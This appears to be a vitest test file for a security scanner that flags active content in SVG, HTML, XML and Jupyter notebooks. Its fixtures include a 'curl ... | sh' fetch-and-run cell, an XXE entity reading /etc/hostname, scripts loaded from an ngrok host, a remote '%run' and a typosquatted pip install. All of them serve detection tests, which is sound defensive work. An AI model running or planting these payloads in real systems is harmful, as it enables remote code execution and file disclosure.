import { describe, expect, test } from 'vitest';
import type { Language, Unit } from '../../src/model/index.js';
import { CONTENT_RULES } from '../../src/rules/content.js';
import { contentAnalyser } from '../../src/scripts/content-analyser.js';
import { contextOf, factsOf, judge } from '../manifests/support.js';
import { makeUnit, NO_HURRY } from '../support/make-unit.js';

const read = (language: Language, text: string, overrides: Partial<Unit> = {}) =>
  contentAnalyser.analyse([makeUnit(language, text, overrides)], NO_HURRY);
const hows = (language: Language, text: string) =>
  factsOf(read(language, text), 'active-content').map(({ how, host }) => (host === undefined ? how : `${how} ${host}`));

describe('code in pages and pictures', () => {
  test.each<[Language, string, string[], string[]]>([
    ['svg', '<svg><script>fetch("x")</script></svg>', ['svg script'], ['fetch("x")']],
    ['svg', '<svg><script><![CDATA[go()]]></script></svg>', ['svg script'], ['go()']],
    ['svg', '<svg onload="go()"/>', ['svg handler'], ['go()']],
    ['svg', '<svg><a xlink:href="java&#115;cript&colon;go()"/></svg>', ['svg address with code'], ['go()']],
    [
      'svg',
      '<svg><script href="https://x.example.invalid/a.js"/></svg>',
      ['svg external script x.example.invalid', 'svg script'],
      [],
    ],
    [
      'xml',
      '<?xml version="1.0"?><svg:svg xmlns:svg="s"><svg:script>go()</svg:script></svg:svg><svg >',
      ['svg script'],
      ['go()'],
    ],
    ['html', '<script>go()</script><button onclick="run()">', ['html script'], ['go()', 'run()']],
    ['html', '<SCRIPT SRC=//cdn.example/a.js></SCRIPT>', ['html external script cdn.example'], []],
    ['html', '<iframe src="https://f.example/"></iframe>', ['frame f.example'], []],
    ['html', '<meta http-equiv="refresh" content="0; url=https://r.example/">', ['refresh r.example'], []],
    [
      'html',
      '<form action="https://p.example/"><input type=password></form>',
      ['form p.example', 'password form p.example'],
      [],
    ],
    ['xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>', ['external entity'], []],
  ])('%s: %s', (language, text, expected, code) => {
    expect(hows(language, text)).toEqual(expected);
    expect(read(language, text).units.map((unit) => unit.text.trim())).toEqual(code);
    expect(read(language, text).units.every((unit) => unit.language === 'javascript')).toBe(true);
  });

  test.each<[Language, string]>([
    ['svg', '<svg><style>a{}</style><a href="https://a.example"/><circle r="4"/></svg>'],
    ['html', '<!-- <script>go()</script> --><p>text</p>'],
    ['html', '<script type="application/json">{"a":1}</script><script src="./a.js"></script>'],
    ['html', '<a href="javascript:void(0)">x</a><form action="/login"><input type="password"></form>'],
    ['xml', '<a onx="1"><b/></a>'],
  ])('%s: %s has none', (language, text) => {
    expect(hows(language, text)).toEqual([]);
  });

  test('code stands where it stands', () => {
    const text = '<html>\n<script>\n  go()\n</script>';
    const [unit] = read('html', text, { file: 'a.html' }).units;
    expect(unit?.placeAt(unit.text.indexOf('go'))).toEqual({ file: 'a.html', line: 3, column: 3 });
  });
});

describe('notebooks', () => {
  const notebook = JSON.stringify({
    cells: [
      { cell_type: 'markdown', source: ['# Title\n', 'Text'] },
      {
        cell_type: 'code',
        source: [
          'import os\n',
          '!curl http://192.0.2.1/x | sh\n',
          '%pip install reqeusts\n',
          '%matplotlib inline\n',
          'x = 1',
        ],
      },
      { cell_type: 'code', source: '%%bash\nid -u\n' },
    ],
  });
  test('cells are read in their languages', () => {
    expect(read('notebook', notebook).units.map((unit) => [unit.language, unit.text])).toEqual([
      ['markdown', '# Title\nText'],
      ['shell', 'curl http://192.0.2.1/x | sh\npip install reqeusts'],
      ['shell', 'id -u\n'],
      ['python', 'import os\n\n\n\nx = 1'],
    ]);
  });
  test('what a command prints is in the variable, in later cells too', () => {
    const cells = [
      { cell_type: 'code', source: 'a = !cat x\nb = %sx id' },
      { cell_type: 'code', source: 'print(a)\nget_ipython().system("id")' },
    ];
    expect(read('notebook', JSON.stringify({ cells })).units.map((unit) => [unit.language, unit.text])).toEqual([
      ['shell', 'cat x\nid'],
      [
        'python',
        'a = __import__("subprocess").getoutput("cat x")\nb = __import__("subprocess").getoutput("id")\nprint(a)\n__import__("subprocess").getoutput("id")',
      ],
    ]);
  });
  test('a cell that runs an address', () => {
    const cells = [{ cell_type: 'code', source: '%run https://c.example.invalid/a.py' }];
    expect(read('notebook', JSON.stringify({ cells })).facts).toMatchObject([
      { type: 'execute', host: 'c.example.invalid' },
    ]);
  });
  test('what is none is said to be so', () => {
    expect(read('notebook', '{').facts).toMatchObject([{ type: 'incomplete' }]);
  });
});

describe('the rules on active content', () => {
  const judged = (language: Language, text: string, overrides: Partial<Unit> = {}) =>
    judge(CONTENT_RULES, read(language, text, overrides).facts);
  test.each<[Language, string, string[]]>([
    ['svg', '<svg><script>go()</script></svg>', ['content.script-in-picture high']],
    ['svg', '<svg onload="go()"/>', ['content.script-in-picture high']],
    ['html', '<script>go()</script>', ['content.page-script info']],
    ['html', '<script src="https://abc.ngrok.io/a.js"></script>', ['content.loads-from-nobody high']],
    ['html', '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>', []],
    ['html', '<form action="https://p.example/"><input type=password></form>', ['content.asks-for-password high']],
    ['xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>', ['content.external-entity high']],
  ])('%s: %s', (language, text, expected) => {
    expect(judged(language, text)).toEqual(expected);
  });

  test('a picture whose script uses the network is critical', () => {
    const { facts } = read('svg', '<svg><script>go()</script></svg>', { file: 'a.svg' });
    const inner = makeUnit('javascript', 'go()', { file: 'a.svg', kind: 'nested' });
    const network = {
      type: 'network',
      unit: inner,
      offset: 0,
      sink: { kind: 'http', tool: 'fetch' },
      sends: true,
    } as const;
    expect(judge(CONTENT_RULES, facts, contextOf([...facts, network]))).toEqual(['content.script-in-picture critical']);
  });

  test('an example of code is none', () => {
    expect(judged('svg', '<svg><script>go()</script></svg>', { kind: 'block' })).toEqual([]);
    expect(judged('html', '<script>go()</script>', { kind: 'block' })).toEqual([]);
  });
});
